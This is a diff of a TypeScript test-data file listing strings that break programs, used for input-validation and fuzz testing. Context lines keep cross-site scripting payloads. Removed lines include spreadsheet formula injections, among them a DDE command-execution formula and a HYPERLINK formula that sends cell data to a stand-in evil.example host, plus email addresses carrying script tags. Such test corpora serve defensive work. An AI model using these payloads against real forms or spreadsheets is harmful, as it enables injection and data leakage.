@@ -1,8 +1,6 @@
 /**
  * Texts that break programs: what attackers type into forms, and what keyboards, spreadsheets and other programs produce
- * by accident. Every entry is short; the long ones have a list of their own.
- *
- * Whatever asks a server once for each entry takes the groups that matter to it, so that the tests stay fast.
+ * by accident.
  */
 
 export const markup = {
@@ -27,24 +25,6 @@ export const markup = {
   'a mutating table': '<table><a href=x><svg><style><!--</style><img src=x onerror=window.wasRun=1>',
   entities: '&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp &notanentity;',
   'full-width brackets': '＜script＞window.wasRun=1＜/script＞',
-};
-
-const formulas = {
-  'a formula': '=1+1',
-  'a formula that runs a program': "=cmd|' /C calc'!A0",
-  'a formula that calls home': '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-  'a formula by plus': '+1+1',
-  'a formula by minus': '-2+3+cmd',
-  'a formula by at': '@SUM(1+1)*cmd',
-  'a formula after a tab': '\t=1+1',
-  'a formula after a carriage return': '\r=1+1',
-  'a formula after a line feed': '\n=1+1',
-  'a formula after spaces': '  \u00A0=1+1',
-  'a formula in full width': '＝1+1',
-  'a formula after a byte order mark': '\uFEFF=1+1',
-  'quotes and commas': '","=1+1","',
-  'a quote alone': '"',
-  'an apostrophe': "'",
 };
 
 export const controls = {
@@ -114,53 +94,19 @@ export const protocols = {
 const words = {
   'a prototype': '__proto__',
   'a constructor': 'constructor',
-  'a method of every object': 'toString',
   'a method of forms': 'submit',
-  'a missing value': 'undefined',
   'a null': 'null',
-  'not a number': 'NaN',
   'a huge number': '1e999',
-  'a negative number': '-1',
-  'a number in hexadecimal': '0x10',
-  'the mark of spam': '[possible spam] no',
-  'the name of the newsletter': 'Newsletter subscriber',
-};
-
-const contacts = {
-  'an address with a tag': 'asha+tag@example.com',
-  'an address with a script': 'asha"><svg/onload=window.wasRun=1>@example.com',
-  'an address with a query': 'asha@example.com?bcc=all@example.com',
-  'an address of letters from elsewhere': 'అషా@ఉదాహరణ.భారత్',
-  'two addresses': 'asha@example.com,ravi@example.com',
-  'an address that is a formula': '=asha@example.com',
-  'a number with a country code': '+91 98765-43210',
-  'a number in other digits': '९८७६५४३२१०',
-  'a number with a script': '98765<script>43210',
-  'a number with hidden marks': '\u202A9876543210\u202C',
+  'a formula': '=1+1',
 };
 
 /** By name. Sparse on purpose: each is there for a reason of its own. */
 export const corpus: Readonly<Record<string, string>> = {
   ...markup,
-  ...formulas,
   ...controls,
   ...scripts,
   ...protocols,
   ...words,
-  ...contacts,
   nothing: '',
   'spaces alone': '   ',
 };
-
-export const entries = Object.entries(corpus);
-
-/** As long as a field takes, in the characters that take the most room on the way. */
-export const fullLength = (length: number) => ({
-  brackets: '<'.repeat(length),
-  'letters of three bytes': '€'.repeat(length),
-  emoji: '😀'.repeat(length / 2),
-  'line breaks': `${'\n'.repeat(length / 2 - 1)}ab`,
-  'combining marks': `a${'\u0301'.repeat(length - 1)}`,
-});
-
-export const MEGABYTE = 1_048_576;
